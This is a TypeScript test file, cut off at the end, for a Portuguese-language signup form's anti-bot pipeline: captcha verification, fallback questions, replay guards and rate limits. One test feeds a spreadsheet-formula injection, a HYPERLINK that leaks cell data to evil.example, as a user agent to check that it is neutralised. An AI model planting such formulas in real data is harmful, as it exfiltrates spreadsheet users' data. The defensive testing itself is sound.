import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createDelivery } from "~/delivery/delivery.server";
import { parseSettings, withSigningSecret } from "~/server/settings.server";
import { BotTrap, FORM_MAX_AGE_MS, MIN_SUBMIT_MS } from "~/signup/bot-trap.server";
import { SITEVERIFY_BURST, SITEVERIFY_CALLS_PER_SECOND } from "~/signup/captcha.server";
import { Signup } from "~/signup/pipeline.server";
import {
  FallbackQuestions,
  QUESTION_RELAYS_PER_ADDRESS,
  QUESTION_RELAYS_PER_MINUTE,
  QUESTION_RELAYS_PER_NETWORK,
  QUESTION_TTL_MS,
} from "~/signup/question.server";
import { RelayPace } from "~/signup/relay-pace.server";
import { SignedTokens } from "~/signup/signed-tokens.server";
import { memoryState } from "~/state/memory-state.server";
import type { SharedState } from "~/state/shared-state.server";
import { freePort } from "../harness/app-server";
import { solveQuestion } from "../harness/question-solver";
import { pageFields, visitorFields } from "../harness/signup-client";
import { standInPerFile } from "../harness/stand-in-per-file";

const SECRET = "unit-test-signing-secret-0123456789";
const USER_AGENT = "Mozilla/5.0 (Linux; Android 14) Chrome/130 Mobile";
const SUCCESS = { title: "Cadastro realizado!", description: "Você será notificado assim que o Prevly for lançado." };
const INVALID_EMAIL = { title: "E-mail inválido", description: "Por favor, informe um e-mail válido." };
const CAPTCHA = { title: "Valide o captcha", description: "Confirme que você não é um robô resolvendo o captcha." };
const FALLBACK = {
  title: "Falha ao enviar",
  description: "Não foi possível enviar seu cadastro agora. Tente novamente.",
};
const TOO_MANY = {
  title: "Muitas tentativas",
  description: "Recebemos muitos envios da sua conexão neste momento. Aguarde alguns segundos e envie de novo.",
};

const standIn = standInPerFile();
let logs: string[] = [];

beforeEach(() => {
  logs = [];
  vi.spyOn(console, "log").mockImplementation((line: string) => {
    logs.push(line);
  });
});
afterEach(() => {
  vi.restoreAllMocks();
  vi.useRealTimers();
});

function makeSignup(values: Record<string, string> = {}, state: SharedState = memoryState()): Signup {
  const settings = parseSettings({ SIGNUP_SECRET: SECRET, WEBHOOK_URL: standIn.webhookUrl, ...values });
  return new Signup(withSigningSecret(settings), state, createDelivery(settings));
}

/**
 * Stops the clocks the limits read (Date, and the timers that end their windows), so no window moves on while a test
 * runs, however slowly the machine runs it; vi.advanceTimersByTime moves them as far as the test says.
 */
const freezeClock = () => vi.useFakeTimers({ toFake: ["Date", "setTimeout", "clearTimeout"] });

/** The fields the rendered form sends, with the bot trap's of a visitor who took a person's time. */
function formFields(fields: Record<string, string>): Record<string, string> {
  return { ...visitorFields(SECRET), ...fields };
}

function post(fields: Record<string, string> | URLSearchParams, headers: Record<string, string> = {}): Request {
  return new Request("http://localhost/?index", {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded", "user-agent": USER_AGENT, ...headers },
    body: new URLSearchParams(fields).toString(),
  });
}

async function submit(signup: Signup, fields: Record<string, string>, headers?: Record<string, string>) {
  return signup.handle(post(formFields(fields), headers));
}

/** A sign-up that verifies captcha tokens with the siteverify stand-in, behind one trusted proxy. */
const verifying = (settings: Record<string, string> = {}) =>
  makeSignup({
    HCAPTCHA_SECRET: "0xsecret",
    HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl,
    TRUST_PROXY: "1",
    ...settings,
  });

/** The fields that answer `question`: rightly, or `offset` off. */
const answering = (question: { token: string; text: string }, offset = 0) => ({
  challengeToken: question.token,
  challengeAnswer: String(solveQuestion(question.text) + offset),
});

/** A post's sender, behind the one trusted proxy. */
const at = (ip: string) => ({ "x-forwarded-for": ip });

/** A question's own count of answers, as the pipeline keeps it. */
const answersLimit = () =>
  memoryState().limit({ name: "question-answers", points: 3, durationSeconds: 600, whenAway: "refuse" });

let tokenCount = 0;
const token = () => `P1_token-${++tokenCount}-${Math.random().toString(36).slice(2)}`;

describe("relaying a valid sign-up", () => {
  it("relays the visitor's e-mail, token, user agent and the time, and answers success", async () => {
    const signup = makeSignup();
    const captcha = token();
    const before = Date.now();
    const { status, result } = await submit(signup, { email: "  ana.souza@exemplo.com.br ", hcaptchaToken: captcha });

    expect(status).toBe(200);
    expect(result).toEqual({ ok: true, notice: SUCCESS, email: "", resetCaptcha: true });
    expect(standIn.received.webhook).toHaveLength(1);
    const body = JSON.parse(standIn.received.webhook[0]!.raw) as Record<string, string>;
    expect(body).toMatchObject({
      email: "ana.souza@exemplo.com.br",
      hcaptchaToken: captcha,
      source: "prevly-landing",
      userAgent: USER_AGENT,
    });
    expect(new Date(body.ts!).toISOString()).toBe(body.ts);
    expect(Date.parse(body.ts!)).toBeGreaterThanOrEqual(before);
    expect(Date.parse(body.ts!)).toBeLessThanOrEqual(Date.now());
  });

  it.each([
    ["none", undefined, ""],
    [
      "one that starts like a spreadsheet formula",
      ' +-@=HYPERLINK("https://evil.example/?leak="&A2)',
      '=HYPERLINK("https://evil.example/?leak="&A2)'.slice(1),
    ],
  ])(
    "relays the configured source, and the user agent when the browser sent %s, without a formula's start",
    async (_, sent, relayed) => {
      const signup = makeSignup({ SIGNUP_SOURCE: "lp-previdencia" });
      const request = post(
        formFields({ email: "bia@exemplo.com", hcaptchaToken: token() }),
        sent === undefined ? {} : { "user-agent": sent },
      );
      if (sent === undefined) request.headers.delete("user-agent");
      await signup.handle(request);
      expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({
        userAgent: relayed,
        source: "lp-previdencia",
      });
    },
  );

  it("logs one structured line per outcome, with the e-mail masked and never the webhook URL", async () => {
    const signup = makeSignup();
    await submit(signup, { email: "ana.souza@exemplo.com.br", hcaptchaToken: token() });
    standIn.webhook = { status: 500, text: "erro" };
    await submit(signup, { email: "bruno@exemplo.com.br", hcaptchaToken: token() });
    const lines = logs.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatchObject({ event: "signup", outcome: "relayed", status: 200, email: "a***@exemplo.com.br" });
    expect(lines[1]).toMatchObject({
      event: "signup",
      outcome: "webhook-status-500",
      status: 502,
      email: "b***@exemplo.com.br",
    });
    expect(typeof lines[0]!.durationMs).toBe("number");
    expect(logs.join("\n")).not.toContain(standIn.webhookUrl);
    expect(logs.join("\n")).not.toContain("ana.souza");
  });
});

describe("refusing bad input before anything is relayed", () => {
  it("an invalid e-mail → 400 'E-mail inválido' before the captcha is read, the typed value echoed back", async () => {
    const { status, result } = await submit(makeSignup(), { email: "ana@", hcaptchaToken: "" });
    expect(status).toBe(400);
    expect(result).toMatchObject({ ok: false, notice: INVALID_EMAIL, email: "ana@", resetCaptcha: false });
  });

  it("asks for the captcha when no token came, keeping the e-mail", async () => {
    const { status, result } = await submit(makeSignup(), { email: "ana@exemplo.com.br", hcaptchaToken: "" });
    expect(status).toBe(400);
    expect(result).toMatchObject({ ok: false, notice: CAPTCHA, email: "ana@exemplo.com.br" });
    expect(standIn.received.webhook).toHaveLength(0);
  });
});

describe("webhook faults", () => {
  async function closedPortUrl() {
    return `http://127.0.0.1:${await freePort()}/hook`;
  }

  /** [case, settings, the stand-in's behaviour, the message shown, requests the webhook saw]. */
  const cases: Array<
    [string, () => Promise<Record<string, string>> | Record<string, string>, () => void, string, number]
  > = [
    ["connection refused", async () => ({ WEBHOOK_URL: await closedPortUrl() }), () => {}, FALLBACK.description, 0],
    [
      "500 with text",
      () => ({}),
      () => (standIn.webhook = { status: 500, text: "Workflow could not be started" }),
      "Webhook retornou 500 Internal Server Error: Workflow could not be started",
      1,
    ],
    [
      "404 without text",
      () => ({}),
      () => (standIn.webhook = { status: 404, text: "" }),
      "Webhook retornou 404 Not Found",
      1,
    ],
  ];

  it.each(cases)(
    "%s → 'Falha ao enviar' with the right message, e-mail kept, sent once",
    async (_, settings, arrange, description, requests) => {
      const signup = makeSignup(await settings());
      arrange();
      const { status, result } = await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() });
      expect(status).toBe(502);
      expect(result).toMatchObject({
        ok: false,
        notice: { title: "Falha ao enviar", description },
        email: "ana@exemplo.com.br",
        resetCaptcha: true,
      });
      expect(standIn.received.webhook).toHaveLength(requests);
    },
  );

  it("a 10 MB error answer is not downloaded: its text is cut to 200 characters", async () => {
    standIn.webhook = { status: 500, bodyBytes: 10 * 1024 * 1024 };
    const { result } = await submit(makeSignup(), {
      email: "ana@exemplo.com.br",
      hcaptchaToken: token(),
    });
    expect(result.notice.title).toBe("Falha ao enviar");
    const text = result.notice.description.replace("Webhook retornou 500 Internal Server Error: ", "");
    expect(text).toHaveLength(200);
    expect(text).toMatch(/^x+…$/);
    expect(standIn.received.webhook).toHaveLength(1);
    // The app hung up early: the stand-in could not write the whole answer.
    await standIn.webhookDone();
    expect(standIn.bodyBytesSent).toBeLessThan(10 * 1024 * 1024);
  });

  it("a failed relay is relayed again on the next press, with the same captcha or a new one, under the same Idempotency-Key (the automation can drop a double)", async () => {
    const signup = makeSignup();
    const captcha = token();
    // The webhook took it but the answer never came: the visitor was told it failed.
    standIn.webhook = { status: 200, reset: true };
    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(502);
    standIn.webhook = { status: 503, text: "" };
    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(502);
    standIn.webhook = { status: 200 };
    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(200);
    const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
    expect(keys).toHaveLength(3);
    expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(new Set(keys).size).toBe(1);
  });
});

describe("server-side captcha verification", () => {
  it("relays after siteverify says success, sending secret, response, sitekey and remoteip", async () => {
    const captcha = token();
    const { status } = await submit(
      verifying(),
      { email: "ana@exemplo.com.br", hcaptchaToken: captcha },
      {
        "x-forwarded-for": "203.0.113.9",
      },
    );
    expect(status).toBe(200);
    expect(standIn.received.siteverify).toEqual([
      {
        form: {
          secret: "0xsecret",
          response: captcha,
          sitekey: "10000000-ffff-ffff-ffff-000000000001",
          remoteip: "203.0.113.9",
        },
      },
    ]);
    expect(standIn.received.webhook).toHaveLength(1);
  });

  it("a rejected token → 'Valide o captcha', the widget is reset, nothing relayed", async () => {
    standIn.siteverify = { success: false };
    const { status, result } = await submit(verifying(), { email: "ana@exemplo.com.br", hcaptchaToken: token() });
    expect(status).toBe(400);
    expect(result).toMatchObject({ notice: CAPTCHA, email: "ana@exemplo.com.br", resetCaptcha: true });
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it.each([
    ["unreachable", async () => ({ HCAPTCHA_VERIFY_URL: `http://127.0.0.1:${await freePort()}/siteverify` }), () => {}],
    ["answering 500", async () => ({}), () => (standIn.siteverify = { success: true, status: 500 })],
  ])("siteverify %s → fails closed with 'Falha ao enviar', nothing relayed", async (_, settings, arrange) => {
    const signup = makeSignup({
      HCAPTCHA_SECRET: "0xsecret",
      HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl,
      ...(await settings()),
    });
    arrange();
    const { status, result } = await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() });
    expect(status).toBe(502);
    expect(result).toMatchObject({ notice: FALLBACK, email: "ana@exemplo.com.br", resetCaptcha: true });
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("without HCAPTCHA_SECRET tokens are relayed unverified", async () => {
    await submit(makeSignup({ HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl }), {
      email: "ana@exemplo.com.br",
      hcaptchaToken: token(),
    });
    expect(standIn.received.siteverify).toHaveLength(0);
    expect(standIn.received.webhook).toHaveLength(1);
  });
});

describe("the fallback question", () => {
  const answered = (signup: Signup, offset = 0) => answering(signup.formTokens().question!, offset);

  it("a correct answer stands in for the captcha: same body, empty hcaptchaToken", async () => {
    const signup = makeSignup();
    const { status } = await submit(signup, { email: "ana@exemplo.com.br", ...answered(signup) });
    expect(status).toBe(200);
    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({
      email: "ana@exemplo.com.br",
      hcaptchaToken: "",
    });
  });

  it("a wrong answer → 400 with a clear message and a new question, e-mail kept", async () => {
    const signup = makeSignup();
    const proof = answered(signup, 1);
    const { status, result } = await submit(signup, { email: "ana@exemplo.com.br", ...proof });
    expect(status).toBe(400);
    expect(result.notice).toEqual({
      title: "Resposta incorreta",
      description: "Confira a conta e responda à nova pergunta.",
    });
    expect(result.email).toBe("ana@exemplo.com.br");
    expect(result.question?.text).toMatch(/^Quanto é/);
    expect(result.question?.token).not.toBe(proof.challengeToken);
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("an invalid e-mail leaves the question as it was: the same one and its answer sent back, then signing up", async () => {
    const signup = makeSignup();
    const question = signup.formTokens().question;
    const proof = answering(question);
    const refused = await submit(signup, { email: "ana@exemplo", ...proof });
    expect(refused.result.notice.title).toBe("E-mail inválido");
    expect([refused.result.question, refused.result.answer]).toEqual([question, proof.challengeAnswer]);
    expect(refused.result.botTrap).toBeDefined();
    expect((await submit(signup, { email: "ana@exemplo.com.br", ...proof })).status).toBe(200);
  });

  it("an invalid e-mail with a question that is not a live one of ours sends none back", async () => {
    const signup = makeSignup();
    const { token: live } = signup.formTokens().question;
    const [id, expiresAt] = live.split(".");
    const forged = `${id}.${expiresAt}.${"A".repeat(43)}`;
    const expired = new FallbackQuestions(new SignedTokens(SECRET), answersLimit(), "").ask(
      Date.now() - QUESTION_TTL_MS - 1,
    ).token;
    for (const challengeToken of [forged, expired, "junk"]) {
      const { result } = await submit(signup, { email: "ana@exemplo", challengeToken, challengeAnswer: "9" });
      expect([challengeToken, result.question, result.answer]).toEqual([challengeToken, undefined, undefined]);
    }
  });

  it("a question expired, signed with another secret or with its expiry spelled otherwise → 'Pergunta expirada' and a new one", async () => {
    const signup = makeSignup();
    const questionsUnder = (secret: string) => new FallbackQuestions(new SignedTokens(secret), answersLimit(), "");
    const live = signup.formTokens().question;
    const [id, expiry, mac] = live.token.split(".") as [string, string, string];
    const tokens = [
      questionsUnder(SECRET).ask(Date.now() - QUESTION_TTL_MS - 1),
      questionsUnder("another-secret-another-secret-000").ask(),
      ...[`0${expiry}`, `+${expiry}`, `${expiry}e0`, ` ${expiry}`].map((spelling) => ({
        ...live,
        token: `${id}.${spelling}.${mac}`,
      })),
    ];
    for (const question of tokens) {
      const { status, result } = await submit(signup, { email: "ana@exemplo.com.br", ...answering(question) });
      expect([status, result.notice.title, result.question?.text]).toEqual([
        400,
        "Pergunta expirada",
        expect.stringMatching(/^Quanto é/),
      ]);
    }
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("one question takes three correct answers at most; wrong ones spend none", async () => {
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const proof = answered(signup);
    for (let attempt = 0; attempt < 5; attempt++)
      await submit(signup, {
        email: `bot${attempt}@exemplo.com`,
        ...answered(signup, 1),
        challengeToken: proof.challengeToken,
      });
    const statuses: number[] = [];
    for (const [index, email] of ["a@exemplo.com", "b@exemplo.com", "c@exemplo.com", "d@exemplo.com"].entries()) {
      statuses.push((await submit(signup, { email, ...proof }, { "x-forwarded-for": `203.0.113.${index}` })).status);
    }
    expect(statuses).toEqual([200, 200, 200, 400]);
  });

  it(`one sender's address relays ${QUESTION_RELAYS_PER_ADDRESS.perMinute} a minute and ${QUESTION_RELAYS_PER_ADDRESS.perHour} an hour; answers for a listed address spend none, and are refused alike once they are spent`, async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    const signup = makeSignup({ TRUST_PROXY: "1" });
    /** Each answer to a question nobody else answered, for a new address unless told one. */
    const answer = async (ip: string, email = `novo${++tokenCount}@exemplo.com`) => {
      const { status } = await submit(signup, { email, ...answering(signup.formTokens().question!) }, at(ip));
      vi.advanceTimersByTime(1_000); // a new render, so a new question
      return status;
    };
    expect(await answer("203.0.113.8", "listada@exemplo.com")).toBe(200);
    const minutes: number[][] = [];
    for (let minute = 0; minute < 6; minute++) {
      const bot = "198.51.100.7";
      minutes.push([await answer(bot), await answer(bot, "listada@exemplo.com"), await answer(bot), await answer(bot)]);
      vi.advanceTimersByTime(60_000);
    }
    expect(minutes).toEqual([...Array(5).fill([200, 200, 200, 429]), [429, 429, 429, 429]]);
    expect(await answer("203.0.113.9")).toBe(200);
    vi.advanceTimersByTime(60 * 60_000);
    expect(await answer("198.51.100.7")).toBe(200);
  });

  it("a script answering each second's question for three addresses it listed takes none of its answers: twelve visitors without JavaScript, one a second, each sign up on the first press", async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const listed = ["um@exemplo.com", "dois@exemplo.com", "tres@exemplo.com"];
    for (const [index, email] of listed.entries())
      await submit(
        signup,
        { email, ...answering(signup.formTokens(Date.now() - 5_000).question) },
        at(`192.0.2.${index}`),
      );
    const script: string[] = [];
    const visitors: number[] = [];
    for (let second = 0; second < 12; second++) {
      const question = signup.formTokens().question;
      for (const email of listed)
        script.push((await submit(signup, { email, ...answering(question) }, at("198.51.100.7"))).result.notice.title);
      const visitor = { email: `visitante${second}@exemplo.com.br`, ...answering(question) };
      visitors.push((await submit(signup, visitor, at(`203.0.113.${second}`))).status);
      vi.advanceTimersByTime(1_000);
    }
    expect(new Set(script)).toEqual(new Set([SUCCESS.title]));
    expect(visitors).toEqual(Array(12).fill(200));
  });

  it(`ten /64s of one /48 relay ${QUESTION_RELAYS_PER_NETWORK.perMinute} a minute and ${QUESTION_RELAYS_PER_NETWORK.perHour} an hour in all, and cannot close the question for anyone else`, async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const answer = async (ip: string) => {
      const fields = { email: `novo${++tokenCount}@exemplo.com`, ...answering(signup.formTokens().question) };
      vi.advanceTimersByTime(1_000);
      return (await submit(signup, fields, at(ip))).status;
    };
    const minutes: number[][] = [];
    for (let minute = 0; minute < 6; minute++) {
      const statuses: number[] = [];
      for (let subnet = 0; subnet < 10; subnet++) statuses.push(await answer(`2001:db8:48:${subnet}::1`));
      minutes.push(statuses);
      vi.advanceTimersByTime(60_000);
    }
    const { perMinute } = QUESTION_RELAYS_PER_NETWORK;
    const open = [...Array(perMinute).fill(200), ...Array(10 - perMinute).fill(429)];
    expect(minutes).toEqual([...Array(5).fill(open), Array(10).fill(429)]);
    expect(await answer("2001:db8:49::1")).toBe(200);
  });

  it("after a secret's rotation, an invalid e-mail posted with a page from before it gets that page's question back", async () => {
    const state = memoryState();
    const question = makeSignup({}, state).formTokens().question;
    const rotated = makeSignup(
      { SIGNUP_SECRET: "rotated-signing-secret-0123456789", SIGNUP_SECRET_PREVIOUS: SECRET },
      state,
    );
    const proof = answering(question);
    const refused = await submit(rotated, { email: "ana@exemplo", ...proof });
    expect([refused.result.question, refused.result.answer]).toEqual([question, proof.challengeAnswer]);
  });

  it("forged question ids are refused before any bookkeeping: nothing is counted for hundreds of them, and a genuine question still works", async () => {
    const state = memoryState();
    const counted: string[] = [];
    const counting: SharedState = {
      ...state,
      limit: (spec) => {
        const limit = state.limit(spec);
        return { ...limit, take: (key, points) => (counted.push(spec.name), limit.take(key, points)) };
      },
    };
    const signup = makeSignup({ TRUST_PROXY: "1" }, counting);
    const question = signup.formTokens().question!;
    const [, expiry] = question.token.split(".");
    // A botnet: each forgery from an address of its own.
    for (let index = 0; index < 300; index++) {
      const forged = `${String(index).padStart(12, "A")}.${expiry}.${"B".repeat(43)}`;
      const client = { "x-forwarded-for": `198.18.${index >> 8}.${index & 255}` };
      const { status } = await submit(
        signup,
        { email: "bot@exemplo.com", challengeToken: forged, challengeAnswer: "7" },
        client,
      );
      expect(status).toBe(400);
    }
    expect(counted.filter((name) => name !== "form-presses")).toEqual([]);
    const person = await submit(
      signup,
      { email: "pessoa@exemplo.com.br", ...answering(question) },
      {
        "x-forwarded-for": "203.0.113.50",
      },
    );
    expect(person.status).toBe(200);
    expect(standIn.relayedEmails()).toEqual(["pessoa@exemplo.com.br"]);
  });

  it("without Redis, a question relayed before a restart is expired after it, never relayed again", async () => {
    const beforeRestart = makeSignup();
    const fields = { email: "ana@exemplo.com.br", ...answered(beforeRestart) };
    expect((await submit(beforeRestart, fields)).status).toBe(200);
    const afterRestart = makeSignup(); // the same kept secret, a new process's memory
    const replayed = await submit(afterRestart, fields);
    expect(replayed.status).toBe(400);
    expect(replayed.result.notice.title).toBe("Pergunta expirada");
    expect(standIn.received.webhook).toHaveLength(1);
  });
});

describe("replays", () => {
  it.each([
    ["a captcha token", () => ({ hcaptchaToken: token() })],
    ["a question's answer", (signup: Signup) => answering(signup.formTokens().question)],
  ])(
    "the same e-mail (another spelling of it: case, NFD) with the same %s again answers success without a second relay",
    async (_, proof) => {
      const signup = makeSignup();
      const fields = proof(signup);
      const first = await submit(signup, { email: "Joa\u0303o@Exemplo.com.br", ...fields });
      const second = await submit(signup, { email: "Jo\u00e3o@exemplo.com.br", ...fields });
      expect([first.result.notice, second.result.notice]).toEqual([SUCCESS, SUCCESS]);
      expect(standIn.relayedEmails()).toEqual(["Jo\u00e3o@exemplo.com.br"]);
    },
  );

  it("five identical posts at once (a double click, a retry) relay once and all succeed", async () => {
    standIn.webhook = { status: 200, delayMs: 100 };
    const signup = makeSignup();
    const fields = { email: "ana@exemplo.com.br", hcaptchaToken: token() };
    const answers = await Promise.all(Array.from({ length: 5 }, () => submit(signup, fields)));
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 200]);
    expect(standIn.received.webhook).toHaveLength(1);
  });
});

describe("bot trap", () => {
  it("a filled hidden field looks like success and relays nothing", async () => {
    const signup = makeSignup();
    const { botTrap } = signup.formTokens();
    const { status, result } = await signup.handle(
      post({ ...formFields({ email: "bot@exemplo.com", hcaptchaToken: token() }), [botTrap.nameField]: "Robert" }),
    );
    expect(status).toBe(200);
    expect(result).toMatchObject({ ok: true, notice: SUCCESS });
    expect(standIn.received.webhook).toHaveLength(0);
    expect(JSON.parse(logs[0]!)).toMatchObject({ outcome: "bot" });
  });

  it("a filled copy of the hidden field behind an empty one is refused unread, and relays nothing", async () => {
    const signup = makeSignup();
    const fields = new URLSearchParams(formFields({ email: "bot@exemplo.com", hcaptchaToken: token() }));
    fields.append(signup.formTokens().botTrap.nameField, "Robert");
    const { status, result } = await signup.handle(post(fields));
    expect(status).toBe(400);
    expect(result).toMatchObject({ ok: false, notice: { title: "Envio inválido" } });
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("a time no secret of ours signed earns nothing a script could use: no fresh fields, no question; the page's own are to be fetched", async () => {
    const { status, result } = await submit(makeSignup(), {
      email: "ana@exemplo.com.br",
      hcaptchaToken: token(),
      from__confirm: "1795484840395.not-signed-by-this-server-000000000000000000000",
    });
    expect(status).toBe(400);
    expect(result).toEqual({
      ok: false,
      notice: {
        title: "Página desatualizada",
        description: "Este formulário não pode mais ser enviado. Já o atualizamos: confira seu e-mail e envie de novo.",
      },
      email: "ana@exemplo.com.br",
      resetCaptcha: false,
      renewForm: true,
    });
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("a form this server signed too long ago gets fresh fields, good at once, and a new question", async () => {
    const signup = makeSignup();
    const old = new BotTrap(new SignedTokens(SECRET)).fields(Date.now() - FORM_MAX_AGE_MS - MIN_SUBMIT_MS - 1);
    const fields = { email: "ana@exemplo.com.br", hcaptchaToken: token() };
    const stale = await signup.handle(post({ ...pageFields({ botTrap: old }), ...fields }));
    expect(stale.status).toBe(400);
    expect(stale.result.notice.title).toBe("Página desatualizada");
    expect(stale.result.question?.text).toMatch(/^Quanto é/);
    const again = await signup.handle(post({ ...pageFields({ botTrap: stale.result.botTrap! }), ...fields }));
    expect(again.status).toBe(200);
    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
  });
});

describe("limits that fit real networks", () => {
  const from = (ip: string) => ({ "x-forwarded-for": `198.51.100.77, ${ip}` });
  /** The siteverify calls one address may cause at once: a second's rate and the burst. */
  const AT_ONCE = SITEVERIFY_CALLS_PER_SECOND + SITEVERIFY_BURST.points;
  /** `count` posts at once from `headers`' sender (or the index's), each with a token siteverify does not know. */
  const forgedAtOnce = (
    signup: Signup,
    count: number,
    headers: Record<string, string> | ((index: number) => Record<string, string>),
  ) =>
    Promise.all(
      Array.from({ length: count }, (_, index) =>
        submit(
          signup,
          { email: `bot${index}@exemplo.com`, hcaptchaToken: `forged-${index}` },
          typeof headers === "function" ? headers(index) : headers,
        ),
      ),
    );
  const genuine = (signup: Signup, headers: Record<string, string>) =>
    submit(signup, { email: "pessoa@exemplo.com.br", hcaptchaToken: token() }, headers);

  it(`${AT_ONCE} genuine sign-ups at once from one address (a carrier NAT) are all relayed`, async () => {
    freezeClock();
    const signup = verifying();
    const answers = await Promise.all(
      Array.from({ length: AT_ONCE }, (_, index) =>
        submit(signup, { email: `vizinho${index}@exemplo.com.br`, hcaptchaToken: token() }, from("203.0.113.5")),
      ),
    );
    expect(answers.map((answer) => answer.status)).toEqual(Array(AT_ONCE).fill(200));
    expect(standIn.received.webhook).toHaveLength(AT_ONCE);
  });

  it.each([
    ["rejects them", { success: false }, 400],
    ["fails", { success: false, status: 500 }, 502],
  ])(
    "200 forged tokens at once from one address cost the rate and burst in siteverify calls whatever siteverify does (%s); the rest are refused before any call and keep their captcha; other addresses are unaffected",
    async (_what, siteverify, verifiedStatus) => {
      freezeClock();
      standIn.siteverify = siteverify;
      const signup = verifying();
      const answers = await forgedAtOnce(signup, 200, from("203.0.113.9"));
      expect(standIn.received.siteverify).toHaveLength(AT_ONCE);
      expect(answers.filter((answer) => answer.status === verifiedStatus)).toHaveLength(AT_ONCE);
      const refused = answers.filter((answer) => answer.status === 429);
      expect(refused).toHaveLength(200 - AT_ONCE);
      expect(refused[0]!.result).toMatchObject({
        notice: TOO_MANY,
        email: expect.stringMatching(/^bot/),
        resetCaptcha: false,
      });
      standIn.siteverify = { success: true };
      expect((await genuine(signup, from("203.0.113.10"))).status).toBe(200);
      expect(standIn.received.webhook).toHaveLength(1);
    },
  );

  it("junk costs no verification and counts against no address: 150 empty posts, then 5 genuine visitors from that address are relayed", async () => {
    const signup = verifying();
    for (let post = 0; post < 150; post++) {
      expect((await submit(signup, { email: "", hcaptchaToken: "" }, from("203.0.113.5"))).status).toBe(400);
    }
    for (let visitor = 0; visitor < 5; visitor++) {
      const answer = await submit(
        signup,
        { email: `vizinho${visitor}@exemplo.com.br`, hcaptchaToken: token() },
        from("203.0.113.5"),
      );
      expect(answer.status).toBe(200);
    }
    expect(standIn.received.siteverify).toHaveLength(5);
    expect(standIn.received.webhook).toHaveLength(5);
  });

  it("without trusted proxies the socket's address is the sender, whatever X-Forwarded-For says", async () => {
    freezeClock();
    const signup = verifying({ TRUST_PROXY: "0" });
    const peer = (ip: string, forwarded: string) => ({ "x-landing-peer-address": ip, "x-forwarded-for": forwarded });
    await forgedAtOnce(signup, AT_ONCE, (index) => peer("203.0.113.5", `198.51.100.${index}`));
    expect((await genuine(signup, peer("203.0.113.5", "198.51.100.200"))).status).toBe(429);
    expect((await genuine(signup, peer("203.0.113.6", "203.0.113.5"))).status).toBe(200);
  });

  it("requests whose sender cannot be told share one rate: the limit fails closed", async () => {
    freezeClock();
    const signup = verifying();
    const unreadable = ["", "garbage", "999.1.1.1", "not-an-ip", "::zz"];
    await forgedAtOnce(signup, AT_ONCE, (index) => ({ "x-forwarded-for": unreadable[index % 5]! }));
    expect((await genuine(signup, { "x-forwarded-for": "" })).status).toBe(429);
  });

  it("one IPv6 /64 is one sender", async () => {
    freezeClock();
    const signup = verifying();
    const sixtyFour = ["2001:db8:1:2::1", "2001:DB8:1:2:ffff:0:0:9", "[2001:db8:1:2::7]:443"];
    await forgedAtOnce(signup, AT_ONCE, (index) => ({ "x-forwarded-for": sixtyFour[index % sixtyFour.length]! }));
    const next = (forwarded: string) => genuine(signup, { "x-forwarded-for": forwarded });
    expect((await next("2001:db8:1:2::8")).status).toBe(429);
    expect((await next("2001:db8:1:3::1")).status).toBe(200);
  });

  it("a bot at a visitor's address posting 5 forged tokens a second costs 40 genuine visitors there, arriving 2 a second, nothing: all are relayed", async () => {
    freezeClock();
    standIn.siteverify = { success: true, genuinePrefix: "genuine-" };
    const signup = verifying();
    const neighbours = from("177.10.0.1");
    const visitors: number[] = [];
    const bot: number[] = [];
    // 20 s, a tenth of a second at a time.
    for (let tenth = 0; tenth < 200; tenth++) {
      if (tenth % 2 === 0) {
        const forged = { email: `bot${tenth}@exemplo.com`, hcaptchaToken: `forged-${tenth}` };
        bot.push((await submit(signup, forged, neighbours)).status);
      }
      if (tenth % 5 === 0) {
        const genuine = { email: `vizinho${tenth}@exemplo.com.br`, hcaptchaToken: `genuine-${tenth}` };
        visitors.push((await submit(signup, genuine, neighbours)).status);
      }
      vi.advanceTimersByTime(100);
    }
    expect(visitors).toEqual(Array(40).fill(200));
    expect(bot).toEqual(Array(100).fill(400));
    expect(standIn.received.webhook).toHaveLength(40);
  });

  it("forged tokens, however many at once, spend none of the relay ceiling: the genuine visitor after 30 of them is relayed", async () => {
    freezeClock();
    standIn.siteverify = { success: true, genuinePrefix: "genuine-" };
    const signup = verifying({ RELAY_LIMIT_PER_SECOND: "2" });
    const forged = await forgedAtOnce(signup, 30, (index) => from(`198.51.${index}.1`));
    expect(new Set(forged.map((answer) => answer.status))).toEqual(new Set([400]));
    const person = await submit(
      signup,
      { email: "pessoa@exemplo.com.br", hcaptchaToken: "genuine-1" },
      from("203.0.113.50"),
    );
    expect([person.status, person.result.notice]).toEqual([200, SUCCESS]);
    expect(standIn.relayedEmails()).toEqual(["pessoa@exemplo.com.br"]);
  });

